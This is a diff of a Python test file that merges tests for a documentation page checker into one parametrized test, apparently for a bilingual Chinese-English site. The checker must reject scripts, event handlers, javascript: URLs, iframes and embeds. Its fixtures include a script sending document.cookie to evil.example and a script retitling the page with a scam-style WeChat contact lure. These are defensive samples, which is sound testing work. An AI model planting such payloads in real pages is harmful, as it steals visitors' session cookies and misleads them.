@@ -100,44 +100,25 @@ def test_plain_html_comment(project, edit):
 
 # ---------------------------------------------------------------- code and frames in pages (d07b-f, e14)
 
-def test_inline_script_in_markdown(project, edit):
-    # d07b: the policy used to hash it and so allow it
-    script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
-    edit.append(ZH, f"\n{script}\n")
-    edit.append(EN, f"\n{script}\n")
-    fails(project, f"{ZH}, line ", "a <script> element <script>", "pages carry no scripts")
-
-
-def test_zh_only_script_that_rewrites_the_page(project, edit):
-    # d07e/f
-    edit.append(ZH, '\n<script>document.title = "请加微信客服办理注销"</script>\n')
-    fails(project, f"{ZH}, line ", "a <script> element")
-
-
-def test_event_handler_attribute(project, edit):
-    edit.append(ZH, '\n<p><a href="#overview" onclick="steal()">概览</a></p>\n')
-    edit.append(EN, '\n<p><a href="#overview" onclick="steal()">Overview</a></p>\n')
-    fails(project, f"{ZH}, line ", "an event handler onclick=")
-
-
-def test_javascript_url(project, edit):
-    edit.append(ZH, "\n[点这里](javascript:alert(1))\n")
-    edit.append(EN, "\n[click here](javascript:alert(1))\n")
-    fails(project, f"{ZH}, line ", "a javascript: URL")
-
-
-def test_external_iframe(project, edit):
+@pytest.mark.parametrize("zh,en,expected", [
+    # d07b: the policy used to hash an inline script in a page, and so allow it
+    ('<script>fetch("https://evil.example/"+document.cookie)</script>', "same",
+     "a <script> element <script>: pages carry no scripts"),
+    # d07e/f: a zh-only script that rewrites the page
+    ('<script>document.title = "请加微信客服办理注销"</script>', None, "a <script> element"),
+    ('<p><a href="#overview" onclick="steal()">概览</a></p>', '<p><a href="#overview" onclick="steal()">Overview</a></p>',
+     "an event handler onclick="),
+    ("[点这里](javascript:alert(1))", "[click here](javascript:alert(1))", "a javascript: URL"),
     # e14: the privacy plugin does not look at iframes
-    frame = '<iframe src="https://www.youtube.com/embed/xyz"></iframe>'
-    edit.append(ZH, f"\n{frame}\n")
-    edit.append(EN, f"\n{frame}\n")
-    fails(project, f"{ZH}, line ", "an <iframe> element <iframe src=\"https://www.youtube.com/embed/xyz\">")
-
-
-def test_external_embed(project, edit):
-    edit.append(ZH, '\n<embed src="https://x.example/a.swf">\n')
-    edit.append(EN, '\n<embed src="https://x.example/a.swf">\n')
-    fails(project, f"{ZH}, line ", "an <embed> element")
+    ('<iframe src="https://www.youtube.com/embed/xyz"></iframe>', "same",
+     'an <iframe> element <iframe src="https://www.youtube.com/embed/xyz">'),
+    ('<embed src="https://x.example/a.swf">', "same", "an <embed> element"),
+], ids=["inline-script", "zh-only-script", "onclick", "javascript-url", "external-iframe", "embed"])
+def test_code_or_frames_in_a_page(project, edit, zh, en, expected):
+    edit.append(ZH, f"\n{zh}\n")
+    if en:
+        edit.append(EN, f"\n{zh if en == 'same' else en}\n")
+    fails(project, f"{ZH}, line ", expected)
 
 
 def test_inline_script_in_an_override(project, edit):
